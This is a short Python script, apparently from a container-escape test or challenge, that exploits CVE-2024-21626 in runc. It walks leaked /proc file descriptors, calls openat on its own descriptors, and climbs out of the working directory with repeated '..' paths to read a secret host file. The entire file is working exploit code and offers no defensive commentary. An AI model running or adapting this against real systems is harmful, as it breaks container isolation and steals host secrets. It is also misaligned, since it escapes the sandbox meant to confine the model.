# CVE-2024-21626: a directory of the host left open leads out by "..", through the descriptor or the working directory.
def climb(base):
    for start in (base, f"{base}/.."):
        try:
            return read(f"{start}/../../../../../../../..{setting('SECRET_FILE')}")
        except OSError:
            pass
    raise Refused(f"{base} leads nowhere")


def every_descriptor():
    for process in [name for name in os.listdir("/proc") if name.isdigit()] + ["self"]:
        try:
            numbers = os.listdir(f"/proc/{process}/fd")
        except OSError:
            continue
        for number in numbers:
            try:
                return climb(f"/proc/{process}/fd/{number}")
            except Refused:
                pass
    raise Refused("no descriptor leads out")


def own_descriptors_by_openat():
    for number in range(3, 1024):
        try:
            file = os.open("../" * 12 + setting("SECRET_FILE").lstrip("/"), os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        return os.read(file, 4096).decode().strip()
    raise Refused("no open directory leads out")


def working_directory():
    return climb("/proc/self/cwd")


attempt(own_descriptors_by_openat, every_descriptor, working_directory)
